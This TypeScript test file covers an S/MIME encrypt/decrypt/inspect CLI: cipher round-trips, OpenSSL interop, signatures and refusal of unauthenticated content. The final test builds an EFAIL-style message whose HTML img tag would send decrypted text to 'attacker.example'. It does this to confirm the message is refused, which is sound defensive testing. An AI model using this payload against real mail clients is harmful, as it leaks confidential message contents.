import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestPki } from '../helpers/pki.ts';
import { draftMessage, runCli, runProcess } from './run-cli.ts';

const pki = new TestPki('CLI Envelope Root');
const alice = pki.identity('rsa2048', 'alice');
const bob = pki.identity('rsa2048', 'bob');
const dave = pki.identity('p256', 'dave');
const dir = pki.dir;
const draft = draftMessage(alice.email, bob.email, 'Confidential plan', 'The meeting moves to Friday.\r\n');
test.after(() => pki.cleanup());

// Changed on purpose (issue 12 item 2): the Subject was hidden by default; it stays readable outside
// unless --hide-subject, which adds the legacy display for clients without header protection.
test('encrypt (default AES-256-GCM) to two recipients; --hide-subject hides the Subject; each decrypts with exit 0 and the Subject restored', async () => {
  const readable = await runCli(['encrypt', '--to', bob.certPath], { input: draft });
  assert.equal(readable.status, 0, readable.stderr);
  assert.match(readable.stdout.toString('latin1'), /^Subject: Confidential plan\r$/m);
  assert.doesNotMatch(readable.stdout.toString('latin1'), /Friday/);
  const e = await runCli(['encrypt', '--to', bob.certPath, '--to', dave.certPath, '--hide-subject'], { input: draft });
  assert.equal(e.status, 0, e.stderr);
  const sealed = e.stdout.toString('latin1');
  assert.match(sealed, /smime-type=authEnveloped-data/i);
  assert.match(sealed, /^Subject: \[\.\.\.\]\r$/m);
  assert.doesNotMatch(sealed, /Friday|Confidential plan/);
  for (const id of [bob, dave]) {
    const d = await runCli(['decrypt', '--cert', id.certPath, '--key', id.keyPath, '--json'], { input: e.stdout });
    assert.equal(d.status, 0, d.stderr);
    const verdict = JSON.parse(d.stdout.toString('utf8'));
    assert.equal(verdict.status, 'unsigned');
    assert.equal(verdict.details.encryption.authenticated, true);
    const out = join(dir, `plain-${id.kind}.eml`);
    const d2 = await runCli(['decrypt', '--cert', id.certPath, '--key', id.keyPath, '-o', out], { input: e.stdout });
    assert.equal(d2.status, 0, d2.stderr);
    const plain = readFileSync(out, 'utf8');
    assert.match(plain, /^Subject: Confidential plan\r$/m);
    // The body (base64 now) starts with the legacy display of the Subject, then the text.
    assert.match(plain, /hp-legacy-display/);
    assert.equal(Buffer.from(plain.slice(plain.indexOf('\r\n\r\n') + 4), 'base64').toString('utf8'), 'Subject: Confidential plan\r\n\r\nThe meeting moves to Friday.\r\n');
  }
});

test('every --cipher choice round-trips; openssl smime decrypts CBC and openssl cms GCM output', async () => {
  for (const cipher of ['aes-128-gcm', 'aes-256-gcm', 'chacha20-poly1305', 'aes-128-cbc', 'aes-256-cbc']) {
    const e = await runCli(['encrypt', '--to', bob.certPath, '--cipher', cipher, ...(cipher === 'aes-128-cbc' ? ['--oaep'] : [])], { input: draft });
    assert.equal(e.status, 0, `${cipher}: ${e.stderr}`);
    const cbc = cipher.endsWith('cbc');
    if (cbc) {
      // Unsigned CBC content is refused unless allowed (EFAIL): exit 1, UNAUTH_ENC, nothing written.
      const refused = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--json'], { input: e.stdout });
      assert.equal(refused.status, 1, `${cipher}: ${refused.stderr}`);
      assert.equal(JSON.parse(refused.stdout.toString('utf8')).code, 'UNAUTH_ENC');
    }
    const d = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--json', ...(cbc ? ['--allow-unauthenticated'] : [])], { input: e.stdout });
    assert.equal(d.status, 0, `${cipher}: ${d.stderr}`);
    const verdict = JSON.parse(d.stdout.toString('utf8'));
    assert.equal(verdict.details.encryption.contentEncryption, cipher);
    if (cbc) assert.equal(verdict.code, 'UNAUTH_ENC', 'unsigned CBC content opened with --allow-unauthenticated is flagged');
    if (cipher === 'chacha20-poly1305') continue; // OpenSSL 3.0's CMS cannot read ChaCha20-Poly1305 AuthEnvelopedData
    const file = join(dir, `sealed-${cipher}.eml`);
    writeFileSync(file, e.stdout);
    // openssl smime (PKCS#7 API) reads enveloped-data with RSA v1.5 only; OAEP and
    // AuthEnvelopedData (GCM) need openssl cms.
    const tool = cipher === 'aes-256-cbc' ? 'smime' : 'cms';
    const o = await runProcess('openssl', [tool, '-decrypt', '-recip', bob.certPath, '-inkey', bob.keyPath, '-in', file]);
    assert.equal(o.status, 0, `${cipher}: openssl: ${o.stderr}`);
    assert.match(o.stdout.toString('utf8'), /Friday/);
  }
});

test('a message encrypted by openssl smime decrypts with kakitome (unsigned CBC: with --allow-unauthenticated)', async () => {
  const file = join(dir, 'openssl-plain.eml');
  writeFileSync(file, 'Content-Type: text/plain\r\n\r\nSealed by OpenSSL.\r\n');
  const o = await runProcess('openssl', ['smime', '-encrypt', '-aes256', '-in', file, '-from', alice.email, '-to', bob.email, '-subject', 'from openssl', bob.certPath]);
  assert.equal(o.status, 0, o.stderr);
  const refused = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath], { input: o.stdout });
  assert.equal(refused.status, 1, refused.stderr);
  assert.equal(refused.stdout.length, 0);
  const d = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--allow-unauthenticated'], { input: o.stdout });
  assert.equal(d.status, 0, d.stderr);
  assert.match(d.stdout.toString('utf8'), /Sealed by OpenSSL/);
});

test('sign-then-encrypt: decrypt verifies the inner signature and reports it', async () => {
  const e = await runCli(['encrypt', '--to', bob.certPath, '--sign-cert', alice.certPath, '--sign-key', alice.keyPath], { input: draft });
  assert.equal(e.status, 0, e.stderr);
  const trusted = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--ca', pki.caPath, '--json'], { input: e.stdout });
  assert.equal(trusted.status, 0, trusted.stderr);
  const v = JSON.parse(trusted.stdout.toString('utf8'));
  assert.equal(v.status, 'trusted');
  assert.deepEqual(v.signers[0].email, [alice.email]);
  // Without anchors the inner signer is untrusted: exit 1, but the plaintext is still written.
  const out = join(dir, 'untrusted-inner.eml');
  const untrusted = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-o', out], { input: e.stdout });
  assert.equal(untrusted.status, 1);
  assert.match(untrusted.stderr.split('\n')[0]!, /^FAILED \(CERT_UNTRUSTED\)/);
  assert.match(readFileSync(out, 'utf8'), /Friday/);
});

test('not a recipient: exit 1, no OUT; key of another certificate: exit 2 (KEY_INVALID)', async () => {
  const e = await runCli(['encrypt', '--to', bob.certPath], { input: draft });
  const out = join(dir, 'never.eml');
  const d = await runCli(['decrypt', '--cert', dave.certPath, '--key', dave.keyPath, '-o', out, '--json'], { input: e.stdout });
  assert.equal(d.status, 1);
  assert.match(JSON.parse(d.stdout.toString('utf8')).code, /^(NOT_RECIPIENT|DECRYPT_FAILED)$/);
  assert.equal(existsSync(out), false);
  const mismatch = await runCli(['decrypt', '--cert', bob.certPath, '--key', alice.keyPath, '-o', out], { input: e.stdout });
  assert.equal(mismatch.status, 2);
  assert.match(mismatch.stderr, /KEY_INVALID/);
  assert.equal(existsSync(out), false);
  assert.deepEqual(readdirSync(dir).filter((n) => n.endsWith('.tmp')), []);
});

test('--p12 with --pass opens a PKCS#12 made by openssl', async () => {
  const p12 = join(dir, 'bob.p12');
  const o = await runProcess('openssl', ['pkcs12', '-export', '-in', bob.certPath, '-inkey', bob.keyPath, '-out', p12, '-passout', 'pass:p12-secret']);
  assert.equal(o.status, 0, o.stderr);
  const e = await runCli(['encrypt', '--to', bob.certPath], { input: draft });
  const d = await runCli(['decrypt', '--p12', p12, '--pass', 'pass:p12-secret'], { input: e.stdout });
  assert.equal(d.status, 0, d.stderr);
  assert.match(d.stdout.toString('utf8'), /Friday/);
  const wrong = await runCli(['decrypt', '--p12', p12, '--pass', 'pass:not-it'], { input: e.stdout });
  assert.equal(wrong.status, 2, wrong.stderr);
  assert.doesNotMatch(wrong.stderr, /not-it|p12-secret/);
});

test('inspect shows layers and recipients without a key; --json parses; garbage is exit 2', async () => {
  const e = await runCli(['encrypt', '--to', bob.certPath, '--to', dave.certPath], { input: draft });
  const i = await runCli(['inspect'], { input: e.stdout });
  assert.equal(i.status, 0, i.stderr);
  const text = i.stdout.toString('utf8');
  assert.match(text, /authEnvelopedData/);
  assert.equal(text.match(/recipient \(/g)?.length, 2);
  const j = await runCli(['inspect', '--json'], { input: e.stdout });
  assert.equal(j.status, 0);
  assert.ok(JSON.parse(j.stdout.toString('utf8')).layers.length >= 1);
  const bad = await runCli(['inspect'], { input: Buffer.from([0, 1, 2, 3, 0xff]) });
  assert.equal(bad.status, 2);
  assert.match(bad.stderr, /MALFORMED/);
});

test('inspect lists an envelope it cannot parse as an unreadable layer, never as "not signed or encrypted"', async () => {
  const e = await runCli(['encrypt', '--to', bob.certPath], { input: draft });
  const sealed = e.stdout.toString('latin1');
  const bodyAt = sealed.indexOf('\r\n\r\n') + 4;
  // The same headers (application/pkcs7-mime), a body that is base64 of no CMS at all.
  const broken = Buffer.from(sealed.slice(0, bodyAt) + Buffer.from('not a CMS structure').toString('base64') + '\r\n', 'latin1');
  const i = await runCli(['inspect'], { input: broken });
  assert.equal(i.status, 0, i.stderr);
  const text = i.stdout.toString('utf8');
  assert.match(text.split('\n')[0]!, /^S\/MIME: message: application\/pkcs7-mime \(smime-type [^)]+\) -> unreadable \(MALFORMED\)$/);
  assert.doesNotMatch(text, /not signed or encrypted/);
  assert.match(text, /error MALFORMED: /);
  const j = JSON.parse((await runCli(['inspect', '--json'], { input: broken })).stdout.toString('utf8'));
  assert.deepEqual(j.layers.map((l: string) => l.replace(/^.* -> /, '')), ['unreadable (MALFORMED)']);
});

test('the EFAIL shape (an encrypted part among parts anyone could add) and an unencrypted message never exit 0 and write nothing, single and batch', async () => {
  // issue 12 item 7: decrypt left the encrypted part closed (as it must) but said success, exit 0, and wrote the message.
  const { encryptMessage } = await import('../../src/smime/encrypt-message.ts');
  const { mkdirSync } = await import('node:fs');
  const victim = encryptMessage(draft, { recipients: [{ certificate: bob.cert }] });
  const sealedPart = victim.subarray(victim.indexOf('Content-Type: application/pkcs7-mime'));
  const shaped = Buffer.concat([
    Buffer.from('From: alice@example.com\r\nTo: bob@example.com\r\nSubject: Re: plan\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img src="https://attacker.example/?\r\n--x\r\n'),
    sealedPart,
    Buffer.from('\r\n--x\r\nContent-Type: text/html\r\n\r\n">\r\n--x--\r\n'),
  ]);
  for (const [what, input] of [['EFAIL shape', shaped], ['not encrypted at all', draft]] as const) {
    const out = join(dir, `refused-${what.replace(/\W/g, '')}.eml`);
    const r = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-i', '-', '-o', out], { input });
    assert.equal(r.status, 2, `${what}: ${r.stderr}`);
    assert.match(r.stderr, /MALFORMED: The message is not encrypted/, what);
    assert.equal(existsSync(out), false, `${what}: nothing written`);
  }
  const efail = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '--json'], { input: shaped });
  assert.equal(efail.status, 2);
  assert.match(JSON.parse(efail.stdout.toString('utf8')).summary, /encrypted parts are not opened.*EFAIL/);
  // In a batch the message is a failure, not written.
  const inDir = join(dir, 'efail-batch');
  mkdirSync(inDir);
  writeFileSync(join(inDir, 'shaped.eml'), shaped);
  writeFileSync(join(inDir, 'sealed.eml'), victim);
  const b = await runCli(['decrypt', '--cert', bob.certPath, '--key', bob.keyPath, '-i', inDir, '-o', join(dir, 'efail-out')]);
  assert.equal(b.status, 2, b.stderr);
  assert.deepEqual(readdirSync(join(dir, 'efail-out')), ['sealed.eml']);
  assert.match(b.stderr, /shaped\.eml: MALFORMED: .*\(skipped\)/);
});
